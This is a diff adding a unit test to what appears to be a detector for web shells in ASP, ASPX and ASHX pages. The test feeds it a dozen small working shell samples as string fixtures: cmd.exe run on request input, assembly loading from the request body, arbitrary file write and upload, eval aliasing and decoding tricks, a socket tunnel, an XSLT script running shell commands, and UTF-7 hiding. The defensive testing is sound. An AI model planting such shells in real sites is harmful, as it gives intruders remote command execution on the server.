@@ -529,6 +529,127 @@ static void test_benign_pages(void **st)
     }
 }
 
+/* UTF-7 of s in one "+...-" run per character (the form intruders use to hide code). */
+static void utf7(const char *s, char *out, size_t cap)
+{
+    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    size_t o = 0;
+    for (; *s && o + 8 < cap; s++) {
+        unsigned v = (unsigned char)*s; /* UTF-16BE 00 xx: 16 bits, padded to 18 */
+        unsigned bits = v << 2;
+        out[o++] = '+';
+        out[o++] = b64[(bits >> 12) & 63];
+        out[o++] = b64[(bits >> 6) & 63];
+        out[o++] = b64[bits & 63];
+        out[o++] = '-';
+    }
+    out[o] = 0;
+}
+
+/* Techniques seen in public shells, written our own way. */
+static void test_techniques(void **st)
+{
+    (void)st;
+    static const struct {
+        const char *ext, *page;
+        xs_wsk kind;
+        int min;
+    } cases[] = {
+        /* a handler whose directive has no WebHandler word */
+        {".ashx",
+         "<%@ Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler {"
+         " public void ProcessRequest(HttpContext c) { System.Reflection.Assembly.Load("
+         "c.Request.BinaryRead(c.Request.ContentLength)).CreateInstance(\"X\"); }"
+         " public bool IsReusable { get { return false; } } }",
+         XS_WSK_LOAD, 80},
+        /* the page's own function called through this. */
+        {".aspx",
+         "<%@ Page Language=\"C#\" %><script runat=\"server\">string Run(string c) { var p = "
+         "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c); return \"\"; }\n"
+         "void Page_Load(object s, EventArgs e) { Response.Write(this.Run(Request[\"c\"])); }"
+         "</script>",
+         XS_WSK_PROCESS, 80},
+        /* a FileInfo opened for writing at a path from a control */
+        {".aspx",
+         "<%@ Page Language=\"C#\" %><asp:TextBox ID=\"where\" runat=\"server\" />"
+         "<asp:TextBox ID=\"what\" runat=\"server\" /><script runat=\"server\">void Save(object "
+         "s, EventArgs e) { var fi = new System.IO.FileInfo(where.Text); var w = fi.CreateText(); "
+         "w.Write(what.Text); w.Close(); }</script>",
+         XS_WSK_WRITE, 80},
+        /* an upload copied byte by byte beside the page under the client's name */
+        {".aspx",
+         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
+         "e) { var f = Request.Files[0]; byte[] buf = new byte[f.ContentLength]; "
+         "f.InputStream.Read(buf, 0, buf.Length); string dir = System.IO.Path.GetDirectoryName("
+         "Request.PhysicalPath); using (var fs = new System.IO.FileStream(System.IO.Path.Combine("
+         "dir, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) "
+         "fs.Write(buf, 0, buf.Length); }</script>",
+         XS_WSK_UPLOAD, 80},
+        /* code decoded by the page's own function, then run */
+        {".asp",
+         "<%\nFunction Un(t)\n  Dim i, r\n  For i = 1 To Len(t)\n    r = r & Chr(Asc(Mid(t, i, 1)) - 1)\n"
+         "  Next\n  Un = r\nEnd Function\nExecuteGlobal Un(\"fwbm!sfrvftu)#y#*\")\n%>",
+         XS_WSK_EMBEDDED, 80},
+        /* eval kept under another name */
+        {".aspx",
+         "<%@ Page Language=\"JScript\" %><% var o = {'run': eval}; o.run(unescape("
+         "Request.Form[\"x\"])); %>",
+         XS_WSK_EVAL, 70},
+        /* commands typed into a started shell */
+        {".ashx",
+         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : "
+         "IHttpHandler { public void ProcessRequest(HttpContext c) { var p = new "
+         "System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
+         "p.StartInfo.RedirectStandardInput = true; p.Start(); "
+         "p.StandardInput.WriteLine(c.Request.Form[\"k\"]); } public bool IsReusable { get { "
+         "return false; } } }",
+         XS_WSK_PROCESS, 80},
+        /* the evaluator's "unsafe" mode built from variables */
+        {".aspx",
+         "<script runat=\"server\" language=\"JScript\">function run(x) { var m1 = \"un\"; var m2 "
+         "= m1 + \"sa\" + \"fe\"; return eval(x, m2); }</script><% run(unknown()); %>",
+         XS_WSK_EVAL, 80},
+        /* a tunnel to the host and port the headers name */
+        {".aspx",
+         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
+         "e) { var ip = System.Net.IPAddress.Parse(Request.Headers[\"X-H\"]); int port = "
+         "int.Parse(Request.Headers[\"X-P\"]); var sock = new System.Net.Sockets.Socket("
+         "System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, "
+         "System.Net.Sockets.ProtocolType.Tcp); sock.Connect(new System.Net.IPEndPoint(ip, port)); }"
+         "</script>",
+         XS_WSK_SOCKET, 80},
+        /* a stylesheet whose script runs commands */
+        {".asp",
+         "<%\nSet x = Server.CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<r>whoami</r>\"\n"
+         "Set t = Server.CreateObject(\"MSXML2.DOMDocument\")\nt.loadXML \"<xsl:stylesheet "
+         "xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script language='JScript' "
+         "implements-prefix='u'>function f(c){ return new ActiveXObject('WScript.Shell')"
+         ".Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>\"\n"
+         "Response.Write x.transformNode(t)\n%>",
+         XS_WSK_XSLT, 80},
+        /* a Script Encoder block (not decoded): suspicious on its own */
+        {".asp", "<%@ Language=\"VBScript.Encode\" %>\n<%#@~^CAAAAA==x7Z9@*Ve6x4CAAA==^#~@%>",
+         XS_WSK_EMBEDDED, 50},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        xs_wsreport r;
+        assert_true(analyse(cases[i].page, strlen(cases[i].page), cases[i].ext, &r));
+        if (r.flow[cases[i].kind].score < cases[i].min)
+            fprintf(stderr, "technique %zu: score %d, file %d (%s)\n", i,
+                    r.flow[cases[i].kind].score, r.score, r.kinds);
+        assert_true(r.flow[cases[i].kind].score >= cases[i].min);
+        assert_true(r.score >= cases[i].min);
+    }
+    /* a UTF-7 page */
+    char body[1024], page[1200];
+    utf7("<% Execute(Request(\"x\")) %>", body, sizeof body);
+    snprintf(page, sizeof page, "<%%@ CodePage=65000 %%>\n%s\n", body);
+    xs_wsreport r;
+    assert_true(analyse(page, strlen(page), ".asp", &r));
+    assert_int_equal(r.flow[XS_WSK_EVAL].score, 100);
+    assert_non_null(strstr(r.signals, "UTF-7"));
+}
+
 /* Code-behind sources: the request and controls declared in code. */
 static void test_code_behind(void **st)
 {
@@ -573,6 +694,7 @@ int main(void)
         cmocka_unit_test(test_obfuscated),
         cmocka_unit_test(test_benign_pages),
         cmocka_unit_test(test_code_behind),
+        cmocka_unit_test(test_techniques),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
